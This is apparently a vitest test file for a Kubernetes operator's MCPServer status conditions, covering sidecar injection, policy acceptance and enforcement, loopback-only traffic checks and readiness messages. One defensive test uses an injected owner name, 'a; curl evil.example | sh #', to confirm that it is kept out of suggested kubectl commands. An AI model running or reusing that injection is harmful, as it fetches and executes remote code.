/** The conditions of an MCPServer: what people read first, so each row holds the state and the words for it. */
import { describe, expect, test } from 'vitest';
import { mcpServerSchema } from '../../../core/api/mcp-server.ts';
import { readRecord } from '../../injection/record.ts';
import type { RawPod } from '../../injection/pod.ts';
import { render } from '../../injection/render.ts';
import { recordOf } from '../../injection/record.ts';
import { cachesWith, mcpServer, pod, type PodOptions, REVISION } from '../../testing/gen.ts';
import { compile } from '../../../core/policy/compile.ts';
import { forGates } from '../../../core/policy/for-gates.ts';
import { pack as packOf } from '../../../core/policy/testing/gen.ts';
import { plan } from '../../policy-delivery/plan.ts';
import { type InPods, placementOf } from '../../placement.ts';
import type { WantedBundle } from '../bundle.ts';
import { gatherFacts, type ServerFacts } from '../facts.ts';
import { injected } from './injected.ts';
import { policyAccepted } from './policy-accepted.ts';
import { policyEnforced } from './policy-enforced.ts';
import { ready } from './ready.ts';
import { trafficVerified } from './traffic-verified.ts';

const settings = {
  image: 'sidecar:1',
  imagePullPolicy: 'IfNotPresent',
  resources: {},
  runAsUser: 65_532,
  logLevel: 'info',
  operatorUrl: 'https://operator:8443',
  stateSizeLimit: '1Gi',
};
const server = mcpServer();
const compiled = (packs = ['finance/payments']): WantedBundle => ({
  kind: 'compiled',
  ...compile(mcpServerSchema.parse(server), []),
  revision: REVISION,
  packs,
});
const rejected: WantedBundle = {
  kind: 'rejected',
  reason: 'InvalidPack',
  problem: 'pack finance/payments: spec.mode is bad',
};

/** What a pod injected with today's settings has on it. */
const current = currentRecord();
const injectedPod = (options: PodOptions = {}) => pod({ record: current, ...options });

function currentRecord(): object {
  const overlay = render({
    namespace: 'finance',
    server: mcpServerSchema.parse(server),
    port: 9000,
    portNames: ['mcp'],
    path: '/mcp',
    settings,
  });
  return recordOf(overlay, { container: 'app', port: 9000 }, [{ container: 'app', port: 9000, name: 'mcp' }]);
}

function facts(pods: object[], others: object[] = []): ServerFacts {
  return gatherFacts(
    server,
    mcpServerSchema.parse(server),
    placementOf(server) as InPods,
    cachesWith(server, ...pods, ...others),
  );
}

function service(name: string, targetPort: number | string, more: object = {}) {
  return {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name, namespace: 'finance', uid: `service-${name}`, resourceVersion: '1' },
    spec: { selector: { app: 'ledger' }, ports: [{ port: 80, targetPort }], ...more },
  };
}

const enabledNamespace = {
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: { name: 'finance', labels: { 'sallyport.dev/injection': 'enabled' }, uid: 'n', resourceVersion: '1' },
};

test('what the injector writes down is read back', () => {
  expect(readRecord(injectedPod() as unknown as RawPod)).toMatchObject({ port: 9000 });
});

describe('PolicyAccepted', () => {
  test('True names the revision and the packs', () => {
    expect(policyAccepted(facts([]), compiled())).toEqual({
      status: 'True',
      reason: 'Compiled',
      message: `${REVISION} from finance/payments`,
    });
  });
  test('True without packs says that everything is denied, and what to create', () => {
    const { status, reason, message } = policyAccepted(facts([]), compiled([]));
    expect([status, reason]).toEqual(['True', 'NoPacks']);
    expect(message).toContain('every call is denied');
  });
  test('False repeats what is wrong with which pack and says what holds meanwhile', () => {
    const { status, message } = policyAccepted(facts([]), rejected);
    expect(status).toBe('False');
    expect(message).toBe(
      'pack finance/payments: spec.mode is bad. The last good policy stays in force until this is mended.',
    );
  });
});

describe('Injected', () => {
  test('True when every pod carries the current sidecar', () => {
    expect(injected(facts([injectedPod(), injectedPod({ name: 'ledger-2' })]), settings)).toMatchObject({
      status: 'True',
      message: '2 of 2 pods carry the sidecar',
    });
  });
  test('False when the selector finds nothing, with the selector', () => {
    const { reason, message } = injected(facts([]), settings);
    expect(reason).toBe('NoPods');
    expect(message).toContain('app=ledger');
  });
  test('False names the pods without sidecar and the commands that mend it', () => {
    const bare = pod({ gateOf: null, name: 'ledger-7d9f-x', owner: { kind: 'StatefulSet', name: 'ledger' } });
    const { reason, message } = injected(facts([bare]), settings);
    expect(reason).toBe('PodsWithoutSidecar');
    expect(message).toContain('ledger-7d9f-x');
    expect(message).toContain(
      'kubectl label namespace finance sallyport.dev/injection=enabled, then kubectl -n finance rollout restart statefulset/ledger',
    );
  });
  test('a namespace that is labelled already need not be labelled', () => {
    const { message } = injected(facts([pod({ gateOf: null })], [enabledNamespace]), settings);
    expect(message).not.toContain('kubectl label');
    expect(message).toContain('delete and create pod ledger-1 again');
  });
  test('the words of the injector for a pod it left alone are repeated', () => {
    const bare = pod({
      gateOf: null,
      annotations: { 'sallyport.dev/injection-skipped': 'the pod uses the host network' },
    });
    expect(injected(facts([bare]), settings).message).toContain('(the pod uses the host network)');
  });
  test('the Deployment behind a ReplicaSet is what has to be restarted', () => {
    const bare = pod({
      gateOf: null,
      labels: { app: 'ledger', 'pod-template-hash': '7d9f' },
      owner: { kind: 'ReplicaSet', name: 'ledger-7d9f' },
    });
    expect(injected(facts([bare]), settings).message).toContain('rollout restart deployment/ledger');
  });
  test.each([
    ['a pod without a gate', pod({ gateOf: null })],
    ['a pod with a gate made for an earlier spec', injectedPod()],
  ])('False when the port is none of %s, naming those there are', (_, found) => {
    const moved = mcpServer({ spec: { workload: { selector: { matchLabels: { app: 'ledger' } }, port: 'http' } } });
    const { reason, message } = injected(
      gatherFacts(moved, mcpServerSchema.parse(moved), placementOf(moved) as InPods, cachesWith(moved, found)),
      settings,
    );
    expect(reason).toBe('PortNotFound');
    expect(message).toContain('ledger-1: no container of the pod declares the TCP port http');
    expect(message).toContain('9000 (mcp) of container app');
  });
  test('an owner that would not be safe in a command that people type is not named', () => {
    const owners = [
      { kind: 'Deployment', name: 'a; curl evil.example | sh #' },
      { kind: 'Deployment', name: 'a', apiVersion: 'example.com/v1' },
    ];
    for (const owner of owners) {
      const { message } = injected(
        facts([pod({ gateOf: null, record: current, owner })], [enabledNamespace]),
        settings,
      );
      expect(message).not.toMatch(/evil|rollout restart/);
    }
  });
  test('False when a pod carries the gate of another server', () => {
    expect(injected(facts([injectedPod({ gateOf: 'other' })]), settings).reason).toBe('PodsWithoutSidecar');
  });
  test('False when another server claims the same pods, naming it', () => {
    const { reason, message } = injected(facts([injectedPod()], [mcpServer({ name: 'rival' })]), settings);
    expect(reason).toBe('PodsClaimedTwice');
    expect(message).toContain('MCPServer rival');
  });
  test.each([
    ['the sidecar image', { ...settings, image: 'sidecar:2' }],
    ['the log level', { ...settings, logLevel: 'debug' }],
  ])('False when %s has changed since', (_, changed) => {
    const { reason, message } = injected(facts([injectedPod()]), changed);
    expect(reason).toBe('Outdated');
    expect(message).toContain('ledger-1 carry a sidecar made for earlier settings');
  });
});

describe('PolicyEnforced', () => {
  const verdict = (pods: object[], wanted = compiled()) => {
    const given = facts(pods);
    const gates = given.pods.filter(({ gateOf }) => gateOf === 'ledger');
    const shares = wanted.kind === 'compiled' ? plan(wanted, gates, () => undefined) : [];
    return policyEnforced(given, { wanted, shares });
  };

  test('True when every ready pod enforces the wanted revision; pods that are not ready do not count', () => {
    const result = verdict([injectedPod({ enforces: REVISION }), injectedPod({ name: 'b', ready: false })]);
    expect(result).toMatchObject({ enforced: 1, ready: 1, verdict: { status: 'True' } });
  });
  test('False names the pods that are waited for', () => {
    const old = injectedPod({ name: 'b', enforces: `sha256:${'b'.repeat(64)}` });
    const result = verdict([injectedPod({ enforces: REVISION }), old]);
    expect(result).toMatchObject({ enforced: 1, ready: 2, verdict: { status: 'False', reason: 'Waiting' } });
    expect(result.verdict.message).toContain('waiting for b');
  });
  test('a pod without gate enforces nothing, whatever its conditions say', () => {
    expect(verdict([pod({ gateOf: null, enforces: REVISION })])).toMatchObject({
      enforced: 0,
      verdict: { status: 'False' },
    });
  });
  test('False with the words of a pod that could not take the bundle', () => {
    const conditions = [
      { type: 'sallyport.dev/PolicyEnforced', status: 'False', message: `${REVISION}; the bundle is not JSON` },
    ];
    const { verdict: said } = verdict([injectedPod({ conditions })]);
    expect(said.reason).toBe('BundleRejected');
    expect(said.message).toContain('the bundle is not JSON');
  });
  test('Unknown without pods, False without ready ones', () => {
    expect(verdict([]).verdict).toMatchObject({ status: 'Unknown', reason: 'NoPods' });
    expect(verdict([injectedPod({ ready: false })]).verdict).toMatchObject({ status: 'False', reason: 'NoReadyPods' });
  });
  describe('with gates of several versions', () => {
    const audited = packOf({ tools: [{ names: ['pay'], effect: 'Allow' }], audit: { level: 'Required' } }, 'payments');
    const wanted: WantedBundle = {
      kind: 'compiled',
      ...compile(mcpServerSchema.parse(server), [audited]),
      packs: ['finance/payments'],
    };
    const says = (message: string) => ({
      conditions: [{ type: 'sallyport.dev/BundlesUnderstood', status: 'True', message }],
    });
    const old = says('v1 (gate 0.1.0)');
    const ofNow = says('v2 audit.level wire.keys (gate 0.2.0)');

    test('False names the pack, the feature, the version, the pods, and both ways to mend it', () => {
      const owner = { kind: 'StatefulSet', name: 'ledger' };
      const pods = [injectedPod({ name: 'a', owner, ...old }), injectedPod({ name: 'b', owner, ...ofNow })];
      const { enforced, verdict: said } = verdict(pods, wanted);
      expect([enforced, said.status, said.reason]).toEqual([0, 'False', 'BundleRejected']);
      expect(said.message).toBe(
        'Pack finance/payments requires audit.level, which not every gate understands. 1 of 2 gates do not (version 0.1.0: a): there every restriction of such a pack holds, old and new, and no permission that they have not got already; other packs arrive whole. To mend: kubectl -n finance rollout restart statefulset/ledger; or take spec.audit.level: Required out of the pack.',
      );
    });
    test('pods that understand all of it count as enforcing it', () => {
      const { revision } = wanted as { revision: string };
      const pods = [injectedPod({ name: 'a', ...old }), injectedPod({ name: 'b', ...ofNow, enforces: revision })];
      expect(verdict(pods, wanted)).toMatchObject({ enforced: 1, ready: 2 });
      expect(verdict(pods.slice(1), wanted).verdict).toMatchObject({ status: 'True', reason: 'AllPods' });
    });
    test('what only makes old gates stricter is enforced once they say that they enforce what is meant for them', () => {
      const wired = packOf(
        { tools: [{ names: ['pay'], effect: 'Allow' }], wire: { keys: 'CaseSensitive' } },
        'payments',
      );
      const full = compile(mcpServerSchema.parse(server), [wired]);
      const { revision } = forGates(full, [], undefined);
      const withWire: WantedBundle = { kind: 'compiled', ...full, packs: ['finance/payments'] };
      expect(verdict([injectedPod({ ...old, enforces: revision })], withWire).verdict.reason).toBe('AllPods');
      expect(verdict([injectedPod({ ...old, enforces: full.revision })], withWire).verdict.reason).toBe('Waiting');
    });
  });
  test('False while there is no acceptable policy', () => {
    expect(verdict([injectedPod({ enforces: REVISION })], rejected).verdict.reason).toBe('PolicyNotAccepted');
  });
});

describe('TrafficVerified', () => {
  const closed = () => injectedPod({ loopbackOnly: true });
  const open = () => injectedPod({ loopbackOnly: false });
  const verdict = (pods: object[], others: object[] = [], knock?: 'open' | 'closed') =>
    trafficVerified(facts(pods, others), () => knock);

  test('True when the server listens on loopback only and every Service leads to the gate', () => {
    expect(verdict([closed()], [service('by-name', 'mcp'), service('by-number', 8484)])).toMatchObject({
      status: 'True',
      reason: 'LoopbackOnly',
    });
  });
  test('False names the Service that goes straight to the server and the name to use instead', () => {
    const { reason, message } = verdict([closed()], [service('old', 9000)]);
    expect(reason).toBe('ServiceGoesAround');
    expect(message).toBe('Service old port 80 goes straight to port 9000 of the server; set its targetPort to mcp.');
  });
  test('a Service without targetPort leads to its own port', () => {
    expect(verdict([closed()], [service('old', 9000, { ports: [{ port: 9000 }] })]).reason).toBe('ServiceGoesAround');
  });
  test('a Service to another port of the pod is none of our business', () => {
    expect(verdict([closed()], [service('metrics', 9100)]).status).toBe('True');
  });
  test('False when the port is open on the node', () => {
    const onNode = closed();
    const containers = [{ name: 'app', ports: [{ containerPort: 9000, hostPort: 9000 }] }];
    expect(verdict([{ ...onNode, spec: { ...onNode.spec, containers } }]).reason).toBe('HostPort');
  });
  test('False when the operator itself reaches the server', () => {
    const { reason, message } = verdict([open()], [], 'open');
    expect(reason).toBe('ServerPortOpen');
    expect(message).toContain('10.244.0.5:9000');
  });
  test.each([['closed' as const], [undefined]])(
    'Unknown when the server listens beyond loopback and knocking gave %s',
    (knock) => {
      expect(verdict([open()], [], knock)).toMatchObject({ status: 'Unknown', reason: 'NotProvenClosed' });
    },
  );
  test('Unknown until every pod has said where its server listens', () => {
    expect(verdict([closed(), injectedPod({ name: 'b' })])).toMatchObject({ status: 'Unknown', reason: 'NotReported' });
  });
  test('False while a pod has no sidecar', () => {
    expect(verdict([closed(), pod({ name: 'b', gateOf: null })]).reason).toBe('PodsWithoutSidecar');
  });
});

describe('Ready', () => {
  const good = { status: 'True', reason: 'Fine', message: 'fine' } as const;
  const bad = { status: 'Unknown', reason: 'NoPods', message: 'No pod runs.' } as const;

  test('True when all parts are', () => {
    expect(ready(facts([]), { Injected: good })).toMatchObject({ status: 'True', reason: 'Serving' });
  });
  test('True, with a word about client tokens that could not be read', () => {
    const conditions = [
      { type: 'sallyport.dev/TokensAccepted', status: 'False', message: 'billing: sha256 is missing' },
    ];
    const { status, reason, message } = ready(facts([injectedPod({ conditions })]), { Injected: good });
    expect([status, reason]).toEqual(['True', 'ServingSomeClients']);
    expect(message).toContain('billing: sha256 is missing');
  });
  test('False with the reason of the first part that is not True', () => {
    expect(ready(facts([]), { PolicyAccepted: good, Injected: bad, PolicyEnforced: bad })).toEqual({
      status: 'False',
      reason: 'NoPods',
      message: 'Injected: No pod runs.',
    });
  });
  test("False when somebody else's Service has the name, with another name to give", () => {
    const { reason, message } = ready(facts([injectedPod()], [service('ledger', 'mcp')]), { Injected: good });
    expect(reason).toBe('ServiceNameTaken');
    expect(message).toContain('ledger-mcp');
  });
});
